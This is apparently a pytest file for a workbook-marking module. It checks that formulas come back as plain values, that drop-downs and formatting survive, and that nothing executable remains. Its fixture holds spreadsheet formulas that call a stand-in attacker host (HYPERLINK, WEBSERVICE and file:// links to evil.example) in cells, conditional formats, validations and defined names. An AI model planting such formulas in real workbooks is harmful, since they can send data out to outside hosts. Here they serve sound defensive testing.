"""The marked workbook: what is wrong stands in it, and nothing of it runs in the spreadsheet of whoever opens it."""

import io
import re
import zipfile
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from openpyxl.styles import Alignment
from openpyxl.workbook.defined_name import DefinedName

from accounts.actions.previews import Problem
from accounts.reading.workbooks import open_workbook
from indicators.workbooks import marking
from indicators.workbooks.marking import marked


def as_saved() -> bytes:
    """A workbook as Excel saves it: formulas with the values that they had, and other things that calculate."""
    file = io.BytesIO()
    book = xlsxwriter.Workbook(file, {"strings_to_formulas": False})
    sheet = book.add_worksheet("Figures")
    sheet.write_formula("A1", "=5+7", None, 12)
    sheet.write_formula("A2", '=HYPERLINK("https://evil.example/"&A1,"look")', None, "look")
    sheet.write_formula("A3", "=DATE(2021,12,31)", book.add_format({"num_format": "yyyy-mm-dd"}), 44561)
    sheet.write_formula("A4", "=11/20", book.add_format({"num_format": "0%"}), 0.55)
    sheet.write_formula("A5", '=""', None, "")
    sheet.write_formula("A6", "=1=1", None, "TRUE")
    sheet.write_array_formula("A7:A7", "{=SUM(A1*2)}", None, 24)
    sheet.write_string("A8", "=1+1")
    sheet.write_number("A9", 7)
    sheet.write_url("A10", "file://evil.example/share", string="a link")
    sheet.merge_range("A11:C11", "=2+2")
    sheet.conditional_format("A1:A9", {"type": "formula", "criteria": '=WEBSERVICE("https://evil.example/")=1', "format": book.add_format({"bold": True})})  # fmt: skip
    sheet.data_validation("B1", {"validate": "custom", "value": '=WEBSERVICE("https://evil.example/")=1'})
    sheet.data_validation("B2", {"validate": "list", "source": ["n/a", "not yet"]})
    sheet.data_validation("B3", {"validate": "list", "source": "=Lists!$A$1:$A$2"})
    book.add_worksheet("Lists").write_column("A1", ["one", "two"])
    book.define_name("evil", '=WEBSERVICE("https://evil.example/")')
    book.define_name("good", "=Lists!$A$1:$A$2")
    book.close()
    return file.getvalue()


def values(content: bytes) -> list[Any]:
    sheet = open_workbook(content, name="r.xlsx").sheets[0]
    return [row.values[0] for row in sheet.rows()]


@pytest.mark.parametrize("most_bytes_loaded", [2_000_000, 0], ids=["loaded", "copied"])
def test_formulas_come_back_as_the_values_that_they_had(monkeypatch, most_bytes_loaded):
    monkeypatch.setattr(marking, "MOST_BYTES_LOADED", most_bytes_loaded)
    content = as_saved()
    problem = Problem("Figures", 9, "A9", "", "7", "Too few.")

    back = marked(open_workbook(content, name="r.xlsx"), content, [problem])

    book = openpyxl.load_workbook(io.BytesIO(back))
    sheet = book["Figures"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} <= {
        "n",
        "s",
        "b",
        "d",
    }
    assert [sheet[f"A{row}"].value for row in (1, 2, 7, 8, 9)] == [12, "look", 24, "=1+1", 7]
    assert str(sheet["A3"].value).startswith("2021-12-31")
    assert sheet["A9"].comment.text == "Too few."
    assert sheet["A8"].quotePrefix is True
    assert values(back) == values(content)
    archive = zipfile.ZipFile(io.BytesIO(back))
    assert [name for name in archive.namelist() if b"evil" in archive.read(name)] == []
    assert [name for name in archive.namelist() if name.startswith("xl/worksheets") and re.search(b"<f[ >]", archive.read(name))] == []  # fmt: skip


def test_drop_downs_and_looks_stay():
    book = openpyxl.load_workbook(io.BytesIO(as_saved()))
    book["Figures"]["A9"].alignment = Alignment(wrap_text=True)
    book.defined_names["better"] = DefinedName("better", attr_text="Lists!$A$1")
    out = io.BytesIO()
    book.save(out)

    back = marked(open_workbook(out.getvalue(), name="r.xlsx"), out.getvalue(), [])

    sheet = openpyxl.load_workbook(io.BytesIO(back))["Figures"]
    assert {str(each.sqref): each.formula1 for each in sheet.data_validations.dataValidation} == {
        "B2": '"n/a,not yet"',
        "B3": "Lists!$A$1:$A$2",
    }
    assert sheet["A9"].alignment.wrap_text is True


def test_a_formula_that_was_never_calculated_comes_back_as_its_text():
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"].value = "=5+7"
    out = io.BytesIO()
    book.save(out)

    back = marked(open_workbook(out.getvalue(), name="r.xlsx"), out.getvalue(), [])

    cell = openpyxl.load_workbook(io.BytesIO(back)).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=5+7", "s", True)
